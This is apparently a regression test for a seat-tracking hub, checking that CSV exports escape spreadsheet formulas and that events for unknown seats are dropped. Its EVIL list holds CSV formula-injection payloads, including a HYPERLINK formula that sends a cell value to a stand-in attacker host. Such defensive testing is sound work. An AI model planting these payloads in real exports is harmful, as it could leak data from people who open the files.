"""Issue 20, item 8: what an edge names ends up in spreadsheets (real hub app, real broker, SQLite).

Before: a seat id ``=HYPERLINK(...)`` from an edge was exported raw in events.csv and stats.csv
(a formula when opened in Excel/LibreOffice), and events of seats that are not in the store's
layout were stored anyway (``zz-unknown-seat`` appeared as a seat in stats.csv).
"""

from __future__ import annotations

import csv
import io
import time

from protocol import SeatDef
from tests.support.hub_harness import square
from tests.support.waiting import wait_for

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_cells_are_escaped_and_unknown_seats_are_not_stored(make_hub, sqlite_url, sim):
    hub = make_hub(sqlite_url)
    edge = sim()
    edge.seats = [SeatDef(seat_id=sid, channel=1, polygon=square(0.1 * i, 0.2), label=f"L{i}")
                  for i, sid in enumerate(["ok-1", *EVIL])]
    t0 = time.time() - 600
    edge.birth(since=t0)
    wait_for(lambda: len(hub.get("/api/v1/stores/store-a/seats").json()) == 1 + len(EVIL), what="the layout")
    for sid in ["ok-1", *EVIL, "zz-unknown-seat"]:
        edge.event(sid, "empty", "occupied", at=t0 + 60)
    wait_for(lambda: len(hub.get("/api/v1/stores/store-a/events").json()["events"]) >= 1 + len(EVIL),
             what="the events")
    time.sleep(1.0)  # the unknown seat's event came last: give it the time to be (not) stored
    events = hub.get("/api/v1/stores/store-a/events").json()["events"]
    assert sorted(e["seat_id"] for e in events) == sorted(["ok-1", *EVIL])  # no zz-unknown-seat
    assert hub.get("/metrics").text.count('reason="unknown_seat"') >= 1

    ev_csv = hub.get("/api/v1/stores/store-a/events.csv")
    assert ev_csv.status_code == 200
    seat_col = [r[2] for r in _rows(ev_csv.text)[1:]]
    st_csv = hub.get("/api/v1/stores/store-a/stats.csv", params={"from": t0, "to": t0 + 1200})
    assert st_csv.status_code == 200, st_csv.text
    stat_seats = [r[1] for r in _rows(st_csv.text)[1:] if r[0] == "seat"]
    for col in (seat_col, stat_seats):
        assert "zz-unknown-seat" not in col
        assert "ok-1" in col  # plain text stays as it is
        for sid in EVIL:
            assert "'" + sid in col, (sid, col)  # shown as text, not run
        assert not any(c and c[0] in "=+-@\t\r" for c in col), col
